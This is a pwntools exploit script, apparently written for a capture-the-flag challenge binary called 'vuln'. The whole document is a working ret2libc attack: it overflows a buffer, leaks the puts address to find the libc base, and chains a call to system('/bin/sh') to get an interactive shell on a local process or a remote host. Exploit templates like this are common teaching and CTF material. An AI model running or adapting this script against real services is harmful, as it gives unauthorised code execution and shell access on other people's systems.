#!/usr/bin/env python3
# pwntools template — usage: python3 exploit.py [REMOTE] [GDB]
from pwn import *

exe = context.binary = ELF("./vuln", checksec=False)
libc = ELF("./libc.so.6", checksec=False) if os.path.exists("./libc.so.6") else exe.libc
HOST, PORT = os.environ.get("CTF_HOST", "10.129.42.17"), int(os.environ.get("CTF_PORT", "1337"))

gdbscript = """
break *main+120
continue
"""


def start():
    if args.REMOTE:
        return remote(HOST, PORT)
    if args.GDB:
        return gdb.debug([exe.path], gdbscript=gdbscript)
    return process([exe.path])


io = start()
offset = 72  # from cyclic_find

rop = ROP(exe)
rop.puts(exe.got["puts"])
rop.call(exe.symbols["main"])
io.sendlineafter(b"> ", flat({offset: rop.chain()}))
leak = u64(io.recvline().strip().ljust(8, b"\x00"))
libc.address = leak - libc.symbols["puts"]
log.success(f"libc @ {hex(libc.address)}")

rop2 = ROP(libc)
rop2.raw(rop2.find_gadget(["ret"]))
rop2.system(next(libc.search(b"/bin/sh\x00")))
io.sendlineafter(b"> ", flat({offset: rop2.chain()}))
io.interactive()
